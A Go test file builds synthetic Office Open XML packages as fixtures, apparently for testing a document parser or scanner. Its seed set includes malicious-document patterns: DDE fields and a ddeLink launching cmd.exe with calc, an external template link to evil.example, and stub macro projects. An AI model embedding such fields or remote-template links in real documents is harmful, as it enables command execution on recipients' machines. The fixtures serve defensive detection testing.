package ooxml

// Fixture generators: every test package is written here with archive/zip,
// from the structures [ECMA-376] Part 2 (OPC) and Part 1 describe. Nothing
// is copied from real documents. Set OOXML_WRITE_FIXTURES=dir to also write
// them to files for a look with other tools (unzip -l, LibreOffice).

import (
	"archive/zip"
	"bytes"
	"fmt"
	"hash/crc32"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// zfile is one zip member of a generated package.
type zfile struct {
	name      string
	body      string
	method    uint16 // zip.Deflate when 0, storeMethod for zip.Store
	encrypted bool   // sets general purpose bit 0 (content stays plain)
	lie       int    // stored, declaring this many more bytes than it has
}

func buildZip(t testing.TB, files []zfile) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, f := range files {
		m := f.method
		switch m {
		case 0:
			m = zip.Deflate
		case storeMethod:
			m = zip.Store
		}
		h := &zip.FileHeader{Name: f.name, Method: m}
		if f.encrypted {
			h.Flags |= 0x1
		}
		var fw interface{ Write([]byte) (int, error) }
		var err error
		if f.lie != 0 {
			h.Method = zip.Store
			h.CRC32 = crc32.ChecksumIEEE([]byte(f.body))
			h.CompressedSize64 = uint64(len(f.body))
			h.UncompressedSize64 = uint64(len(f.body) + f.lie)
			fw, err = w.CreateRaw(h)
		} else if m != zip.Store && m != zip.Deflate {
			// Unknown method: write the bytes raw, as a foreign zipper would.
			h.CompressedSize64 = uint64(len(f.body))
			h.UncompressedSize64 = uint64(len(f.body))
			fw, err = w.CreateRaw(h)
		} else {
			fw, err = w.CreateHeader(h)
		}
		if err != nil {
			t.Fatal(err)
		}
		if _, err := fw.Write([]byte(f.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const (
	nsCT   = "http://schemas.openxmlformats.org/package/2006/content-types"
	nsRels = "http://schemas.openxmlformats.org/package/2006/relationships"
	relPfx = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	msRel  = "http://schemas.microsoft.com/office/2006/relationships/"
	nsW    = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
	ctPfx  = "application/vnd.openxmlformats-officedocument."
	ctDocx = ctPfx + "wordprocessingml.document.main+xml"
	ctDocm = "application/vnd.ms-word.document.macroEnabled.main+xml"
	ctXlsx = ctPfx + "spreadsheetml.sheet.main+xml"
	ctXlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	ctXlsb = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
	ctPptx = ctPfx + "presentationml.presentation.main+xml"
)

// oleMagic starts a stand-in compound file ([MS-CFB] 2.2 header signature).
const oleMagic = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"

// rel is one Relationship element.
type rel struct{ typ, target, mode string }

func relsXML(rels ...rel) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n")
	b.WriteString(`<Relationships xmlns="` + nsRels + `">`)
	for i, r := range rels {
		typ := r.typ
		if !strings.Contains(typ, "://") {
			typ = relPfx + typ
		}
		mode := ""
		if r.mode != "" {
			mode = ` TargetMode="` + r.mode + `"`
		}
		fmt.Fprintf(&b, `<Relationship Id="rId%d" Type="%s" Target="%s"%s/>`, i+1, typ, r.target, mode)
	}
	b.WriteString(`</Relationships>`)
	return b.String()
}

// ctXML writes [Content_Types].xml with the usual defaults and the given
// overrides (part name → content type).
func ctXML(defaults, overrides map[string]string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n")
	b.WriteString(`<Types xmlns="` + nsCT + `">`)
	d := map[string]string{"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
	for k, v := range defaults {
		d[k] = v
	}
	for _, k := range slices.Sorted(maps.Keys(d)) {
		fmt.Fprintf(&b, `<Default Extension="%s" ContentType="%s"/>`, k, d[k])
	}
	for _, k := range slices.Sorted(maps.Keys(overrides)) {
		fmt.Fprintf(&b, `<Override PartName="%s" ContentType="%s"/>`, k, overrides[k])
	}
	b.WriteString(`</Types>`)
	return b.String()
}

// wordDoc wraps body paragraphs in a w:document.
func wordDoc(body string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" +
		`<w:document xmlns:w="` + nsW + `" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>` +
		body + `<w:sectPr/></w:body></w:document>`
}

// para is a paragraph with one run of text.
func para(text string) string { return `<w:p><w:r><w:t>` + text + `</w:t></w:r></w:p>` }

// complexField is a paragraph with a complex field whose instruction is
// split over the given instrText runs and whose result is result.
func complexField(result string, instr ...string) string {
	var b strings.Builder
	b.WriteString(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
	for _, s := range instr {
		b.WriteString(`<w:r><w:instrText xml:space="preserve">` + s + `</w:instrText></w:r>`)
	}
	b.WriteString(`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + result + `</w:t></w:r>`)
	b.WriteString(`<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
	return b.String()
}

// docx describes a WordprocessingML package to generate.
type docx struct {
	mainCT    string            // content type of word/document.xml
	body      string            // w:body content
	docRels   []rel             // word/_rels/document.xml.rels
	overrides map[string]string // extra overrides
	defaults  map[string]string // extra defaults
	extra     []zfile           // extra members
}

func (d docx) files() []zfile {
	ct := d.mainCT
	if ct == "" {
		ct = ctDocx
	}
	ov := map[string]string{"/word/document.xml": ct}
	for k, v := range d.overrides {
		ov[k] = v
	}
	body := d.body
	if body == "" {
		body = para("Hello")
	}
	fs := []zfile{
		{name: "[Content_Types].xml", body: ctXML(d.defaults, ov)},
		{name: "_rels/.rels", body: relsXML(rel{typ: "officeDocument", target: "word/document.xml"})},
		{name: "word/document.xml", body: wordDoc(body)},
	}
	if d.docRels != nil {
		fs = append(fs, zfile{name: "word/_rels/document.xml.rels", body: relsXML(d.docRels...)})
	}
	return append(fs, d.extra...)
}

func (d docx) build(t testing.TB) []byte { return buildZip(t, d.files()) }

// xlsx describes a SpreadsheetML package to generate.
type xlsx struct {
	mainCT    string
	mainName  string // default xl/workbook.xml
	wbRels    []rel
	overrides map[string]string
	defaults  map[string]string
	extra     []zfile
}

func (x xlsx) files() []zfile {
	ct := x.mainCT
	if ct == "" {
		ct = ctXlsx
	}
	name := x.mainName
	if name == "" {
		name = "xl/workbook.xml"
	}
	ov := map[string]string{"/" + name: ct, "/xl/worksheets/sheet1.xml": ctPfx + "spreadsheetml.worksheet+xml"}
	for k, v := range x.overrides {
		ov[k] = v
	}
	wbRels := append([]rel{{typ: "worksheet", target: "worksheets/sheet1.xml"}}, x.wbRels...)
	fs := []zfile{
		{name: "[Content_Types].xml", body: ctXML(x.defaults, ov)},
		{name: "_rels/.rels", body: relsXML(rel{typ: "officeDocument", target: name})},
		{name: name, body: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>`},
		{name: "xl/_rels/" + filepath.Base(name) + ".rels", body: relsXML(wbRels...)},
		{name: "xl/worksheets/sheet1.xml", body: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>`},
	}
	return append(fs, x.extra...)
}

func (x xlsx) build(t testing.TB) []byte { return buildZip(t, x.files()) }

// minimal package for a given main content type (type table tests).
func mainOnly(t testing.TB, mainCT string) []byte {
	return buildZip(t, []zfile{
		{name: "[Content_Types].xml", body: ctXML(nil, map[string]string{"/main/part.xml": mainCT})},
		{name: "_rels/.rels", body: relsXML(rel{typ: "officeDocument", target: "/main/part.xml"})},
		{name: "main/part.xml", body: `<x/>`},
	})
}

// seedPackages are representative packages for fuzzing and benchmarks.
func seedPackages(t testing.TB) map[string][]byte {
	return map[string][]byte{
		"plain.docx": docx{body: para("Hello") + complexField("1", " PAGE ")}.build(t),
		"macro.docm": docx{mainCT: ctDocm, docRels: []rel{{typ: msRel + "vbaProject", target: "vbaProject.bin"}},
			defaults: map[string]string{"bin": "application/vnd.ms-office.vbaProject"},
			extra:    []zfile{{name: "word/vbaProject.bin", body: oleMagic + strings.Repeat("\x00", 504)}}}.build(t),
		"dde.docx": docx{body: complexField("x", " DD", `EAUTO c:\\windows\\system32\\cmd.exe "/k calc" `)}.build(t),
		"template.docx": docx{docRels: []rel{{typ: "settings", target: "settings.xml"}}, extra: []zfile{
			{name: "word/settings.xml", body: `<w:settings xmlns:w="` + nsW + `"><w:attachedTemplate r:id="rId1"/></w:settings>`},
			{name: "word/_rels/settings.xml.rels", body: relsXML(rel{typ: "attachedTemplate", target: "https://evil.example/t.dotm", mode: "External"})},
		}}.build(t),
		"xlm.xlsm": xlsx{mainCT: ctXlsm, wbRels: []rel{{typ: msRel + "xlMacrosheet", target: "macrosheets/sheet1.xml"}},
			overrides: map[string]string{"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
			extra:     []zfile{{name: "xl/macrosheets/sheet1.xml", body: `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`}}}.build(t),
		"embed.xlsx": xlsx{wbRels: []rel{{typ: "externalLink", target: "externalLinks/externalLink1.xml"}, {typ: "oleObject", target: "embeddings/oleObject1.bin"}},
			overrides: map[string]string{"/xl/externalLinks/externalLink1.xml": ctExternalLinkXMLMixed},
			extra: []zfile{
				{name: "xl/externalLinks/externalLink1.xml", body: `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`},
				{name: "xl/embeddings/oleObject1.bin", body: oleMagic + "junk"},
			}}.build(t),
	}
}

const ctExternalLinkXMLMixed = ctPfx + "spreadsheetml.externalLink+xml"

// TestWriteFixtures writes the seed packages to $OOXML_WRITE_FIXTURES (for
// looking at them with other tools); it does nothing otherwise.
func TestWriteFixtures(t *testing.T) {
	dir := os.Getenv("OOXML_WRITE_FIXTURES")
	if dir == "" {
		t.Skip("OOXML_WRITE_FIXTURES not set")
	}
	for name, b := range seedPackages(t) {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}
